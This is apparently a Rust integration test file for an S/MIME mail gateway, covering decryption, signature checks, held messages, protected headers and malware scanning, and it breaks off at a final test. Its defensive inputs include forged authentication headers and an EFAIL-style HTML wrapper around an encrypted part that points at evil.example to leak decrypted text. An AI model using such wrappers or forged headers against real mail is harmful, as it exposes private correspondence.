//! S/MIME that comes in, through the real program: `openssl cms` is the partner, a sink our mail server. What is sealed to us
//! is opened, told of and handed on byte for byte; what is not to be believed is marked; what cannot be opened is held.

use std::fs;
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::Value;
use tempfile::TempDir;

use crate::inbound::{say_to, send};
use crate::mail_sink::Sink;
use crate::operator::id_in;
use crate::running::{Gateway, wait_until};
use crate::scan::{Clamd, MARKER};

const ANNA: &str = "anna.berg@sundby.example";
const BYGG: &str = "bygg@sundby.example";
const EVA: &str = "eva@partner.example";
/// What a partner's author wrote: its header describes it, and nothing else.
const CONTENT: &str = "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
                       Byggesag 12/345.\r\n\r\n  Med venlig hilsen, blåbær\r\n.\r\n.. \r\n";
const RSA: &str = "RSA -pkeyopt rsa_keygen_bits:2048";
const P256: &str = "EC -pkeyopt ec_paramgen_curve:P-256";

/// An authority, people with certificates, a gateway between two sinks.
struct Scene {
    outside: Sink,
    inside: Sink,
    gateway: Gateway,
    folder: TempDir,
}

impl Scene {
    /// Certificates are there, and `more` stands in the configuration; the gateway is not started.
    async fn raise(more: &str) -> Self {
        let (outside, inside) = (Sink::start(true, &[]).await, Sink::start(true, &[]).await);
        let folder = tempfile::tempdir().unwrap();
        let gateway = Gateway::found(folder.path(), outside.address, inside.address, "http://127.0.0.1:9");
        let scene = Self { outside, inside, gateway, folder };
        for root in ["root", "strange"] {
            scene.openssl(&format!(
                "req -x509 -newkey rsa:2048 -noenc -keyout {root}.key -out {root}.pem -subj /O=Office/CN={root} -days 3650 \
                 -addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign,cRLSign"
            ));
        }
        scene.issue("tunnel", RSA, "/O=Sundby/CN=Tunnel", "root", 400, "");
        scene.issue("bygg", P256, "/CN=Bygg", "root", 400, &format!("subjectAltName=email:{BYGG}"));
        scene.issue("partner", RSA, "/O=Partner~kommune/CN=Tunnel", "root", 400, "");
        scene.issue("eva", RSA, "/CN=Eva", "root", 400, &format!("subjectAltName=email:{EVA}"));
        scene.configure(
            "[trust]\nroots = [\"root.pem\"]\n\
             [[own_certificate]]\nfor = \"sundby.example\"\ncertificate = \"tunnel.pem\"\nkey = \"tunnel.key\"\n\
             [[own_certificate]]\nfor = \"bygg@sundby.example\"\ncertificate = \"bygg.pem\"\nkey = \"bygg.key\"\n\
             [[tunnel]]\ndomain = \"partner.example\"\ncertificate = \"partner.pem\"\n",
        );
        scene.configure(more);
        scene
    }

    async fn started(more: &str) -> Self {
        let mut scene = Self::raise(more).await;
        scene.start();
        scene
    }

    fn start(&mut self) {
        self.gateway.start();
        wait_until("the inbound door", || TcpStream::connect(self.gateway.inbound).is_ok());
    }

    fn configure(&self, text: &str) {
        let before = fs::read_to_string(self.gateway.config()).unwrap();
        fs::write(self.gateway.config(), format!("{before}\n{text}")).unwrap();
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn openssl(&self, arguments: &str) {
        let arguments = arguments.split_whitespace().map(|word| word.replace('~', " "));
        let ran = Command::new("openssl").args(arguments).current_dir(self.folder.path()).output().unwrap();
        assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
    }

    /// A certificate with its key, by this authority.
    fn issue(&self, name: &str, key: &str, subject: &str, root: &str, days: u32, extensions: &str) {
        const MAIL: &str =
            "keyUsage=critical,digitalSignature,keyEncipherment,keyAgreement\nextendedKeyUsage=emailProtection";
        fs::write(self.path("ext"), format!("{MAIL}\n{extensions}")).unwrap();
        self.openssl(&format!("genpkey -algorithm {key} -out {name}.key"));
        self.openssl(&format!("req -new -key {name}.key -out {name}.csr -subj {subject}"));
        self.openssl(&format!(
            "x509 -req -in {name}.csr -CA {root}.pem -CAkey {root}.key -CAcreateserial -days {days} -extfile ext -out {name}.pem"
        ));
        fs::set_permissions(self.path(&format!("{name}.key")), fs::Permissions::from_mode(0o600)).unwrap();
    }

    fn cms(&self, arguments: &str, content: &[u8]) -> Vec<u8> {
        fs::write(self.path("in"), content).unwrap();
        self.openssl(&format!("cms {arguments} -binary -in in -out out -outform DER"));
        fs::read(self.path("out")).unwrap()
    }

    /// Signed by these, the content within.
    fn signed(&self, signers: &[&str], content: &[u8]) -> Vec<u8> {
        let signers: String = signers.iter().map(|name| format!(" -signer {name}.pem -inkey {name}.key")).collect();
        let der = self.cms(&format!("-sign -nodetach -md sha256{signers}"), content);
        entity("signed-data", &der)
    }

    /// Signed by this one, beside the content.
    fn clear_signed(&self, signer: &str, content: &[u8]) -> Vec<u8> {
        let signature = self.cms(&format!("-sign -md sha256 -signer {signer}.pem -inkey {signer}.key"), content);
        [
            b"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=s\r\n\r\n--s\r\n",
            content,
            b"\r\n--s\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n",
            lines(&signature).as_bytes(),
            b"--s--\r\n",
        ]
        .concat()
    }

    /// Sealed for this one.
    fn sealed(&self, recipient: &str, cipher: &str, content: &[u8]) -> Vec<u8> {
        let der = self.cms(&format!("-encrypt {cipher} -recip {recipient}.pem"), content);
        entity(if cipher.ends_with("gcm") { "authEnveloped-data" } else { "enveloped-data" }, &der)
    }

    /// Hands an entity over as a message from an author; its id.
    fn hand(&self, from: &str, to: &str, subject: &str, entity: &[u8]) -> String {
        let head = format!(
            "From: <{from}>\r\nTo: <{to}>\r\nSubject: {subject}\r\nMessage-ID: <{}@partner.example>\r\n\
             Authentication-Results: gw.sundby.example; smime=pass\r\nX-Sealgate-Origin: tunnel; signature=valid\r\n\
             X-Sealgate-Outer: forged\r\nMIME-Version: 1.0\r\n",
            subject.replace(' ', "-")
        );
        self.hand_whole(to, &[head.as_bytes(), entity].concat())
    }

    fn hand_whole(&self, to: &str, message: &[u8]) -> String {
        // Dot-stuffed, as the door wants it.
        let text = String::from_utf8(message.to_vec()).unwrap().replace("\r\n.", "\r\n..");
        let text = format!("{}\r\n.", text.strip_suffix("\r\n").unwrap_or(&text));
        let told = say_to(
            self.gateway.inbound,
            &[format!("MAIL FROM:<{EVA}>"), format!("RCPT TO:<{to}>"), "DATA".to_owned(), text],
        );
        assert!(told.len() == 6 && told[5].starts_with("250 "), "{told:?}");
        id_in(&told[5])
    }

    /// The message with this subject that our mail server has got: envelope and header, and body.
    fn got(&self, subject: &str) -> Got {
        let line = format!("\nSubject: {subject}\n");
        let mut found = None;
        wait_until(subject, || {
            let all = self.inside.messages();
            found = all.into_iter().find(|message| String::from_utf8_lossy(message).contains(&line));
            found.is_some()
        });
        let text = String::from_utf8(found.unwrap()).unwrap();
        let (header, body) = text.split_once("\n\n").unwrap();
        // The sink ends a message with an empty line of its own.
        let body = body.strip_suffix('\n').unwrap_or(body).to_owned();
        Got { header: header.replace("\n\t", " ").replace("\n ", " "), body }
    }

    fn stage(&self, id: &str) -> String {
        let list = self.gateway.ask(&["queue", "list"]);
        let found = list.as_array().unwrap().iter().find(|item| item["id"] == id).cloned();
        found.map_or_else(String::new, |item| item["stage"].as_str().unwrap().to_owned())
    }

    /// Waits until a message is held; why it is.
    fn held(&self, id: &str) -> String {
        wait_until("held", || self.stage(id) == "held");
        self.gateway.ask(&["queue", "show", id])["recipients"].to_string()
    }

    fn events(&self, id: &str) -> String {
        self.gateway.ask(&["message", "trace", id]).to_string()
    }
}

struct Got {
    header: String,
    body: String,
}

impl Got {
    /// The values of a field, unfolded.
    fn all(&self, name: &str) -> Vec<&str> {
        let begin = format!("{}:", name.to_lowercase());
        let fields = self.header.lines().filter(|line| line.to_lowercase().starts_with(&begin));
        fields.map(|line| line[begin.len()..].trim()).collect()
    }

    fn origin(&self) -> &str {
        let [one] = self.all("X-Sealgate-Origin")[..] else { panic!("{}", self.header) };
        one
    }

    fn results(&self) -> &str {
        let [one] = self.all("Authentication-Results")[..] else { panic!("{}", self.header) };
        one
    }

    /// Its envelope's recipients, without their parameters.
    fn recipients(&self) -> Vec<String> {
        let all = self.all("X-Rcpt-Args").into_iter();
        all.map(|told| told.split(' ').next().unwrap().trim_matches(['<', '>']).to_owned()).collect()
    }
}

fn lines(octets: &[u8]) -> String {
    let text = STANDARD.encode(octets);
    text.as_bytes().chunks(76).map(|line| format!("{}\r\n", std::str::from_utf8(line).unwrap())).collect()
}

fn entity(kind: &str, der: &[u8]) -> Vec<u8> {
    format!(
        "Content-Type: application/pkcs7-mime; smime-type={kind}; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        lines(der)
    )
    .into_bytes()
}

/// What stands behind the header, as the sink keeps it.
fn body_of(content: &str) -> String {
    content.split_once("\r\n\r\n").unwrap().1.replace("\r\n", "\n")
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_sealed_to_us_is_opened_byte_for_byte_whatever_it_is_sealed_with() {
    let mut scene = Scene::raise(
        "[[own_certificate]]\nfor = \"sundby.example\"\ncertificate = \"old.pem\"\nkey = \"old.key\"\n\
         [[own_certificate]]\nfor = \"sundby.example\"\ncertificate = \"curve.pem\"\nkey = \"curve.key\"\n",
    )
    .await;
    // An old generation has expired, and opens all the same.
    scene.issue("old", RSA, "/O=Sundby/CN=Old", "root", 0, "");
    scene.issue("curve", P256, "/O=Sundby/CN=Curve", "root", 400, "");
    scene.start();
    for (recipient, cipher, to, name) in [
        ("tunnel", "-aes-256-gcm", ANNA, "aes256-gcm"),
        ("tunnel", "-aes-128-cbc", ANNA, "aes128-cbc"),
        ("curve", "-aes-128-gcm", ANNA, "aes128-gcm"),
        ("curve", "-aes-256-cbc", ANNA, "aes256-cbc"),
        ("old", "-aes-256-cbc", ANNA, "aes256-cbc"),
        ("bygg", "-aes-256-gcm", BYGG, "aes256-gcm"),
    ] {
        let subject = format!("{recipient} {name}");
        let inner = scene.signed(&["partner"], CONTENT.as_bytes());
        let id = scene.hand(EVA, to, &subject, &scene.sealed(recipient, cipher, &inner));
        let got = scene.got(&subject);
        assert_eq!(got.body, body_of(CONTENT), "{subject}");
        assert_eq!(
            got.origin(),
            format!(
                "tunnel; domain=partner.example; signature=valid; signer=\"O=Partner kommune, CN=Tunnel\"; encrypted={name}"
            )
        );
        assert!(got.results().starts_with("gw.sundby.example; smime=pass ("), "{}", got.results());
        assert_eq!(got.all("X-Sealgate-Message"), [id.as_str()]);
        assert_eq!(got.all("Content-Type"), ["text/plain; charset=utf-8"]);
        assert!(got.all("X-Sealgate-Outer").is_empty() && got.all("From") == [format!("<{EVA}>")], "{}", got.header);
        assert!(got.all("X-Mail-Args")[0].contains("bounce+"), "nothing of it goes back outside: {}", got.header);
        let events = scene.events(&id);
        assert!(events.contains("unsealed") && events.contains(&format!("sealed={name}")), "{events}");
    }
    // Signed, sealed, signed: each layer is taken off, and the innermost signature counts.
    let inner = scene.sealed("tunnel", "-aes-256-gcm", &scene.signed(&["partner"], CONTENT.as_bytes()));
    scene.hand(EVA, ANNA, "three layers", &scene.clear_signed("eva", &inner));
    let got = scene.got("three layers");
    assert_eq!(got.body, body_of(CONTENT));
    assert!(got.origin().contains("domain=partner.example; signature=valid"), "{}", got.origin());
    assert!(got.results().contains("smime=policy (around a seal, not over the content)"), "{}", got.results());
    // Nothing of it is readable on the disk.
    assert_eq!(scene.gateway.readable(&["Byggesag 12/345", "blåbær"]), Vec::<String>::new());
    assert!(scene.outside.messages().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn signatures_are_judged_and_the_message_is_marked() {
    let mut scene = Scene::raise("").await;
    scene.issue("stranger", RSA, "/CN=Stranger", "strange", 400, &format!("subjectAltName=email:{EVA}"));
    scene.issue("expired", RSA, "/CN=Expired", "root", 0, &format!("subjectAltName=email:{EVA}"));
    scene.issue("other", RSA, "/CN=Other", "root", 400, "subjectAltName=email:ole@other.example");
    scene.issue("revoked", RSA, "/CN=Revoked", "root", 400, &format!("subjectAltName=email:{EVA}"));
    scene.issue(
        "authority",
        RSA,
        "/CN=domain-signing-authority",
        "root",
        400,
        "subjectAltName=email:domain-signing-authority@partner.example",
    );
    scene.issue("nobody", RSA, "/O=Nobody/CN=Nobody", "root", 400, "");
    fs::write(scene.path("index.txt"), "").unwrap();
    fs::write(scene.path("number"), "01\n").unwrap();
    fs::write(
        scene.path("ca.cnf"),
        "[ca]\ndefault_ca = d\n[d]\ndatabase = index.txt\ncrlnumber = number\ndefault_md = sha256\ndefault_crl_days = 30\n",
    )
    .unwrap();
    scene.openssl("ca -config ca.cnf -cert root.pem -keyfile root.key -revoke revoked.pem");
    scene.openssl("ca -config ca.cnf -cert root.pem -keyfile root.key -gencrl -out root.crl");
    let config = fs::read_to_string(scene.gateway.config()).unwrap();
    let config = config
        .replace("roots = [\"root.pem\"]", "roots = [\"root.pem\"]\ncrls = [\"root.crl\"]")
        .replace("[smtpd.inbound] ", "[smtpd.inbound]\nsubject_marks = [\"[sikker]\"] ");
    fs::write(scene.gateway.config(), config).unwrap();
    scene.start();
    let content = CONTENT.as_bytes();
    for (signers, from, word, result) in [
        (vec!["eva"], EVA, "valid", "pass"),
        (vec!["authority"], EVA, "valid", "pass"),
        (vec!["authority"], "eva@byg.partner.example", "valid", "pass"),
        (vec!["authority"], "eva@partner.example.evil.example", "mismatch", "policy"),
        (vec!["partner"], EVA, "valid", "pass"),
        (vec!["stranger"], EVA, "untrusted", "policy"),
        (vec!["expired"], EVA, "expired", "policy"),
        (vec!["revoked"], EVA, "revoked", "fail"),
        (vec!["other"], EVA, "mismatch", "policy"),
        (vec!["eva"], "mayor@partner.example", "mismatch", "policy"),
        (vec!["nobody"], EVA, "mismatch", "policy"),
        (vec!["stranger", "partner"], EVA, "valid", "pass"),
        (vec![], EVA, "none", "none"),
    ] {
        let subject = format!("{} of {from}", signers.join(" and "));
        let inner = if signers.is_empty() { content.to_vec() } else { scene.signed(&signers, content) };
        scene.hand(from, ANNA, subject.trim(), &scene.sealed("tunnel", "-aes-256-gcm", &inner));
        let got = scene.got(subject.trim());
        assert_eq!(got.body, body_of(CONTENT), "{subject}");
        assert!(got.origin().contains(&format!("signature={word}")), "{subject}: {}", got.origin());
        assert!(got.results().contains(&format!("smime={result}")), "{subject}: {}", got.results());
        assert_eq!(got.results().matches("smime=").count(), signers.len().max(1), "{}", got.results());
        let vouched = word == "valid" && signers != ["eva"];
        assert_eq!(got.origin().contains("domain="), vouched, "{}", got.origin());
    }
    // A content that was changed after it was signed.
    let mut der = scene.cms("-sign -nodetach -md sha256 -signer eva.pem -inkey eva.key", content);
    let at = der.windows(8).position(|window| window == b"Byggesag").unwrap();
    der[at] = b'b';
    scene.hand(EVA, ANNA, "changed", &scene.sealed("tunnel", "-aes-256-gcm", &entity("signed-data", &der)));
    let got = scene.got("changed");
    assert!(got.origin().contains("signature=invalid") && got.results().contains("smime=fail"), "{}", got.header);
    // Nobody's seal around it: what others signed beside its content passes as it came, and is told of.
    let clear = scene.clear_signed("eva", content);
    scene.hand(EVA, ANNA, "clear signed", &clear);
    let got = scene.got("clear signed");
    assert_eq!(got.body, body_of(std::str::from_utf8(&clear).unwrap()));
    assert_eq!(got.origin(), "smime; signature=valid; signer=\"CN=Eva\"");
    // … and so inside of a seal, too.
    scene.hand(EVA, ANNA, "clear signed within", &scene.sealed("tunnel", "-aes-256-gcm", &clear));
    let got = scene.got("clear signed within");
    assert_eq!(got.body, body_of(std::str::from_utf8(&clear).unwrap()));
    assert!(got.origin().contains("signature=valid; signer=\"CN=Eva\"; encrypted=aes256-gcm"), "{}", got.origin());
    // A mark that people believe in goes off, on sealed mail and on any other.
    scene.hand(EVA, ANNA, "[SIKKER] marked", &scene.sealed("tunnel", "-aes-256-gcm", content));
    assert_eq!(scene.got("marked").body, body_of(CONTENT));
    scene.hand(EVA, ANNA, "[ sikker ] marked plain", content);
    assert_eq!(scene.got("marked plain").body, body_of(CONTENT));
    // What comes with neither has no such field, whoever wrote one.
    scene.hand(EVA, ANNA, "plain", content);
    let got = scene.got("plain");
    assert!(got.all("X-Sealgate-Origin").is_empty() && !got.results().contains("smime"), "{}", got.header);
    assert!(got.all("X-Sealgate-Outer").is_empty(), "{}", got.header);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_cannot_be_opened_is_held_and_nobody_outside_hears_why() {
    let scene = Scene::started("").await;
    scene.issue("foreign", RSA, "/O=Foreign/CN=Foreign", "root", 400, "");
    let inner = scene.signed(&["partner"], CONTENT.as_bytes());
    // For a key that is not here: what is needed to open it is told.
    let closed = scene.sealed("foreign", "-aes-256-gcm", &inner);
    let id = scene.hand(EVA, ANNA, "for a key that is elsewhere", &closed);
    let why = scene.held(&id);
    scene.openssl("x509 -in foreign.pem -noout -serial -out serial");
    let serial = fs::read_to_string(scene.path("serial")).unwrap().trim().replace("serial=", "").to_lowercase();
    assert!(why.contains("no key here opens it") && why.contains(&serial) && why.contains("CN=root"), "{why}");
    // Let go, it goes on as it came.
    assert!(scene.gateway.command(&["queue", "release", &id]).output().unwrap().status.success());
    let got = scene.got("for a key that is elsewhere");
    assert_eq!(got.body, body_of(std::str::from_utf8(&closed).unwrap()));
    assert!(got.all("X-Sealgate-Origin").is_empty(), "{}", got.header);
    // Damaged, or sealed by a wrong key: one answer.
    let mut der = scene.cms("-encrypt -aes-256-gcm -recip tunnel.pem", &inner);
    let last = der.len() - 1;
    der[last] ^= 1;
    let tag = scene.hand(EVA, ANNA, "a wrong tag", &entity("authEnveloped-data", &der));
    let mut der = scene.cms("-encrypt -aes-256-cbc -recip tunnel.pem", &inner);
    let at = der.len() / 8;
    der[at] ^= 1;
    let key = scene.hand(EVA, ANNA, "a wrong key", &entity("enveloped-data", &der));
    let cut = scene.cms("-encrypt -aes-256-cbc -recip tunnel.pem", &inner);
    let cut = scene.hand(EVA, ANNA, "cut off", &entity("enveloped-data", &cut[..cut.len() - 100]));
    let whys: Vec<String> = [tag, key, cut].iter().map(|id| scene.held(id)).collect();
    assert!(whys.iter().all(|why| why.contains("sealed to us and cannot be opened")), "{whys:?}");
    // Sealed to a department, it is not opened for somebody else who gets hold of it.
    let stolen = scene.hand(EVA, ANNA, "stolen", &scene.sealed("bygg", "-aes-256-gcm", &inner));
    assert!(scene.held(&stolen).contains("another recipient"));
    assert!(scene.outside.messages().is_empty(), "no bounce tells anything");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sealed_part_beside_others_stays_closed() {
    let scene = Scene::started("").await;
    let sealed = String::from_utf8(scene.sealed("tunnel", "-aes-128-cbc", CONTENT.as_bytes())).unwrap();
    let mixed = format!(
        "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n\
         --m\r\n{sealed}--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n"
    );
    let id = scene.hand(EVA, ANNA, "around a seal", mixed.as_bytes());
    let got = scene.got("around a seal");
    assert_eq!(got.body, body_of(&mixed));
    assert!(got.results().contains("smime=neutral (a part beside others is not opened)"), "{}", got.results());
    assert!(got.all("X-Sealgate-Origin").is_empty() && !scene.events(&id).contains("unsealed"), "{}", got.header);
    // Within a seal, too: the outer one is opened, the part beside others is not.
    scene.hand(EVA, ANNA, "within a seal", &scene.sealed("tunnel", "-aes-256-gcm", mixed.as_bytes()));
    assert_eq!(scene.got("within a seal").body, body_of(&mixed));
    // Too many layers are nobody's mail.
    let mut deep = CONTENT.as_bytes().to_vec();
    for _ in 0..9 {
        deep = scene.sealed("tunnel", "-aes-128-cbc", &deep);
    }
    let id = scene.hand(EVA, ANNA, "deep", &deep);
    assert!(scene.held(&id).contains("cannot be opened"));
}

#[tokio::test(flavor = "multi_thread")]
async fn protected_fields_take_the_place_of_outer_ones() {
    let scene = Scene::started("").await;
    let protected = |form: &str, from: &str, subject: &str| {
        format!(
            "{form}From: =?utf-8?Q?Eva_R=C3=A4tt?= <{from}>\r\nTo: <{ANNA}>\r\nSubject: {subject}\r\nDate: Mon, 2 Nov 2026 09:00:00 +0000\r\n\
             HP-Outer: Subject: [...]\r\nX-Sealgate-Origin: tunnel; signature=valid; domain=forged.example\r\n\
             Authentication-Results: gw.sundby.example; smime=pass\r\n"
        )
    };
    let hp = "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n";
    let body = "\r\nKære Anna\r\n";
    let seal = |signer: &str, content: &str| {
        scene.sealed("tunnel", "-aes-256-gcm", &scene.signed(&[signer], content.as_bytes()))
    };
    scene.hand(EVA, ANNA, "[...]", &seal("eva", &format!("{}{body}", protected(hp, EVA, "Fortroligt et"))));
    let got = scene.got("Fortroligt et");
    assert_eq!(got.all("From"), [format!("=?utf-8?Q?Eva_R=C3=A4tt?= <{EVA}>")]);
    assert_eq!(got.all("Date"), ["Mon, 2 Nov 2026 09:00:00 +0000"]);
    assert!(got.all("X-Sealgate-Outer").contains(&"Subject: [...]"), "{}", got.header);
    assert!(got.origin().contains("signature=valid; signer=CN=Eva;") || got.origin().contains("signer=\"CN=Eva\""));
    assert!(!got.header.contains("forged") && got.all("HP-Outer").is_empty(), "{}", got.header);
    assert_eq!(got.body, "Kære Anna\n");
    // Wrapped, as RFC 8551 has it.
    let wrapped = format!(
        "Content-Type: message/rfc822\r\n\r\n{}Content-Type: text/plain\r\n{body}",
        protected("", EVA, "Fortroligt to")
    );
    scene.hand(EVA, ANNA, "outside", &seal("eva", &wrapped));
    let got = scene.got("Fortroligt to");
    assert_eq!((got.body.as_str(), got.all("Content-Type")), ("Kære Anna\n", vec!["text/plain"]), "{}", got.header);
    // A message that is forwarded within is none that is wrapped.
    let forwarded = wrapped.replace(EVA, "ole@other.example").replace("Fortroligt to", "Fortroligt tre");
    scene.hand(EVA, ANNA, "forwarded", &seal("eva", &forwarded));
    assert!(scene.got("forwarded").body.contains("Subject: Fortroligt tre"));
    // An author within for whom nobody vouches is not shown: of him outside at least the way is known.
    let forged = format!("{}{body}", protected(hp, "mayor@sundby.example", "Fortroligt fire"));
    scene.hand(EVA, ANNA, "outside", &seal("eva", &forged));
    let got = scene.got("Fortroligt fire");
    assert_eq!(got.all("From"), [format!("<{EVA}>")]);
    assert!(got.origin().contains("claimed-author"), "{}", got.origin());
    // For whom his domain's signature vouches, he is.
    let vouched = format!("{}{body}", protected(hp, "ole@partner.example", "Fortroligt fem"));
    scene.hand(EVA, ANNA, "outside", &seal("partner", &vouched));
    let got = scene.got("Fortroligt fem");
    assert_eq!(got.all("From"), ["=?utf-8?Q?Eva_R=C3=A4tt?= <ole@partner.example>"]);
    assert!(got.all("X-Sealgate-Outer").contains(&format!("From: <{EVA}>").as_str()), "{}", got.header);
    // Clear-signed: protected fields count where the signature holds, and only there.
    let clear = scene.clear_signed("eva", format!("{}{body}", protected(hp, EVA, "Fortroligt seks")).as_bytes());
    scene.hand(EVA, ANNA, "outside", &clear);
    assert_eq!(scene.got("Fortroligt seks").body, body_of(std::str::from_utf8(&clear).unwrap()));
    let changed = String::from_utf8(clear).unwrap().replace("Fortroligt seks", "Fortroligt syv");
    scene.hand(EVA, ANNA, "changed on its way", changed.as_bytes());
    assert!(scene.got("changed on its way").origin().contains("signature=invalid"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_goes_to_the_department_that_was_chosen_for_it() {
    let scene = Scene::started("").await;
    let told = send(
        scene.gateway.outbound,
        ANNA,
        &["eva@live.example"],
        "From: <anna.berg@sundby.example>\r\nSubject: [sikker] [svar: bygg] Spørgsmål\r\nMessage-ID: <q1@sundby.example>\r\n\r\nHej\r\n",
    );
    assert!(told.starts_with("250 "), "{told}");
    wait_until("the deposit", || scene.events(&id_in(&told)).contains("deposited"));
    let content = format!(
        "Content-Type: text/plain; hp=cipher\r\nFrom: <{EVA}>\r\nTo: <{ANNA}>\r\nSubject: Svar et\r\nIn-Reply-To: <q1@sundby.example>\r\n\r\nJa\r\n"
    );
    let sealed = scene.sealed("tunnel", "-aes-256-gcm", &scene.signed(&["eva"], content.as_bytes()));
    scene.hand(EVA, ANNA, "outside", &sealed);
    let got = scene.got("Svar et");
    assert_eq!(got.recipients(), [BYGG]);
    // To somebody else of ours it goes as it is addressed.
    let sealed = scene.sealed("tunnel", "-aes-256-gcm", content.replace("Svar et", "Svar to").as_bytes());
    scene.hand(EVA, "ole@sundby.example", "outside", &sealed);
    assert_eq!(scene.got("Svar to").recipients(), ["ole@sundby.example"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn malware_within_a_seal_is_found_held_and_told() {
    let clamd = Clamd::start();
    let scene = Scene::started(&format!("[scan]\nclamd = \"tcp://{}\"\n", clamd.address)).await;
    let bad = CONTENT.replace("Byggesag", MARKER);
    let sealed = |text: &str| scene.sealed("tunnel", "-aes-256-gcm", &scene.signed(&["partner"], text.as_bytes()));
    let id = scene.hand(EVA, ANNA, "bad", &sealed(&bad));
    let why = scene.held(&id);
    assert!(why.contains("scan: Sealgate.Marker"), "{why}");
    scene.hand(EVA, ANNA, "good", &sealed(CONTENT));
    assert_eq!(scene.got("good").body, body_of(CONTENT));
    // The postmaster hears of it.
    wait_until("the letter", || scene.inside.messages().iter().any(|it| String::from_utf8_lossy(it).contains(&id)));
    assert!(scene.outside.messages().is_empty());
    // A person has looked at it, and lets it go.
    assert!(scene.gateway.command(&["queue", "release", &id]).output().unwrap().status.success());
    assert_eq!(scene.got("bad").body, body_of(&bad));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_signer_s_certificate_is_kept_to_be_asked_about_and_never_replaces_another() {
    let scene = Scene::started("").await;
    let listed = || -> Vec<Value> {
        let all = scene.gateway.ask(&["certificate", "list"]);
        all.as_array().unwrap().iter().filter(|it| it["for"] == EVA).cloned().collect()
    };
    for subject in ["once", "twice"] {
        let inner = scene.signed(&["eva"], CONTENT.as_bytes());
        scene.hand(EVA, ANNA, subject, &scene.sealed("tunnel", "-aes-256-gcm", &inner));
        scene.got(subject);
        assert_eq!(listed().len(), 1, "{:?}", listed());
    }
    assert_eq!(listed()[0]["usable"], false, "{:?}", listed());
    let fingerprint = listed()[0]["fingerprint"].as_str().unwrap().to_owned();
    assert!(scene.gateway.command(&["certificate", "accept", &fingerprint]).output().unwrap().status.success());
    assert_eq!(listed()[0]["usable"], true, "{:?}", listed());
    // Another one, as valid: it is kept beside the first, and that one stays in use.
    scene.issue("eva2", RSA, "/CN=Eva", "root", 400, &format!("subjectAltName=email:{EVA}"));
    let inner = scene.signed(&["eva2"], CONTENT.as_bytes());
    scene.hand(EVA, ANNA, "another", &scene.sealed("tunnel", "-aes-256-gcm", &inner));
    assert!(scene.got("another").origin().contains("signature=valid"));
    let usable: Vec<Value> = listed().into_iter().filter(|it| it["usable"] == true).collect();
    assert_eq!((listed().len(), usable.len()), (2, 1), "{:?}", listed());
    assert_eq!(usable[0]["fingerprint"], fingerprint.as_str());
}

/// Thunderbird, gpgsm, NSS, Bouncy Castle and pyca seal for a person whose key lies here.
#[tokio::test(flavor = "multi_thread")]
async fn what_other_programs_seal_for_a_person_is_opened() {
    let corpus = Path::new("tests/house/cms");
    let scene = Scene::raise(
        "[[own_certificate]]\nfor = \"anna.berg@sundby.example\"\ncertificate = \"borger.pem\"\nkey = \"borger.key\"\n\
         [[own_certificate]]\nfor = \"anna.berg@sundby.example\"\ncertificate = \"remote.pem\"\nkey = \"remote.key\"\n",
    )
    .await;
    for (from, to) in [("borger", "borger"), ("tunnel", "remote")] {
        fs::copy(corpus.join(format!("{from}.pem")), scene.path(&format!("{to}.pem"))).unwrap();
        fs::copy(corpus.join(format!("{from}.key")), scene.path(&format!("{to}.key"))).unwrap();
        fs::set_permissions(scene.path(&format!("{to}.key")), fs::Permissions::from_mode(0o600)).unwrap();
    }
    let mut scene = scene;
    scene.start();
    for name in
        ["gpgsm-enveloped", "nss-enveloped", "bouncycastle-authenveloped-aes256gcm", "openssl-enveloped-aes256cbc"]
    {
        let der = fs::read(corpus.join(format!("{name}.der"))).unwrap();
        scene.hand(EVA, ANNA, name, &entity("enveloped-data", &der));
        let got = scene.got(name);
        assert!(got.body.contains("fortroligt: blåbær") || got.body.contains("hej"), "{name}: {}", got.body);
        assert!(got.origin().starts_with("smime; signature=none; encrypted=aes"), "{name}: {}", got.origin());
    }
    let message = fs::read_to_string(corpus.join("thunderbird-153-signed-encrypted.eml")).unwrap();
    let message = message.replace("\r\n", "\n").replace('\n', "\r\n");
    scene.hand_whole(ANNA, message.as_bytes());
    let got = scene.got("=?UTF-8?B?VEIgUy9NSU1FIGJsw6Viw6Zy?=");
    assert!(got.body.contains("hej fra thunderbird"), "{}", got.body);
    assert!(got.origin().contains("signature=untrusted"), "{}", got.origin());
}

/// Killed while it opens: the message is incoming, and is opened at the next start.
#[tokio::test(flavor = "multi_thread")]
async fn a_message_that_was_being_opened_when_the_program_was_killed_is_opened_later() {
    let mut scene = Scene::started("").await;
    let long = format!("{CONTENT}{}", "0123456789 og så videre\r\n".repeat(200_000));
    let sealed = scene.sealed("tunnel", "-aes-256-gcm", &scene.signed(&["partner"], long.as_bytes()));
    let head = format!("From: <{EVA}>\r\nTo: <{ANNA}>\r\nSubject: long\r\nMIME-Version: 1.0\r\n");
    scene.hand_whole(ANNA, &[head.as_bytes(), &sealed].concat());
    scene.gateway.kill();
    scene.start();
    assert_eq!(scene.got("long").body, body_of(&long));
    let log = fs::read_to_string(scene.folder.path().join("log")).unwrap();
    assert!(!log.contains("panicked"), "{log}");
}

/// gpgsm itself is the partner: what it seals for a department we open, byte for byte.
#[tokio::test(flavor = "multi_thread")]
async fn gpgsm_seals_for_a_department() {
